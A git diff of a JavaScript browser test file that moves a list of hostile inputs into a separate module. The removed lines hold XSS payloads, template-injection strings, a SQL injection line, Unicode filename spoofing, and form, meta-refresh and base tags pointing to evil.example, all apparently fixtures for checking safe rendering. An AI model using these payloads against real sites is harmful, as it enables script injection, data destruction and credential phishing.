@@ -3,33 +3,11 @@
 import assert from "node:assert/strict";
 import { test } from "node:test";
 import { picture } from "./house/browser.js";
+import { HOSTILE } from "./house/hostile.js";
 import { nothingWentWrong, scene } from "./house/scene.js";
 import { until } from "./house/until.js";
 
 const here = scene();
-
-const HOSTILE = [
-  `<script>alert(1)</script>`,
-  `"><img src=x onerror=alert(1)>`,
-  `'><svg onload=alert(1)>`,
-  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
-  `javascript:alert(1)`,
-  `[x](javascript:alert(1))`,
-  `<a href="javascript:alert(1)">x</a>`,
-  `{{7*7}} \${7*7} {% raw %}`,
-  `{{constructor.constructor('alert(1)')()}}`,
-  `</textarea><script>alert(1)</script>`,
-  `</title><script>alert(1)</script>`,
-  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>`,
-  `<template><script>alert(1)</script></template>`,
-  `<details open ontoggle=alert(1)>`,
-  `&lt;b&gt;&amp;amp; &#60;script&#62;`,
-  `\u202Egnp.exe and \u200Fmixed\u200E text`,
-  `'; drop table events; --`,
-  `<form action=//evil.example><input name=password></form>`,
-  `<meta http-equiv=refresh content="0;url=//evil.example">`,
-  `<base href=//evil.example/>`,
-];
 
 test("without script an agent signs in, answers, notes, transfers; the next one closes", async () => {
   const plain = { javaScriptEnabled: false };
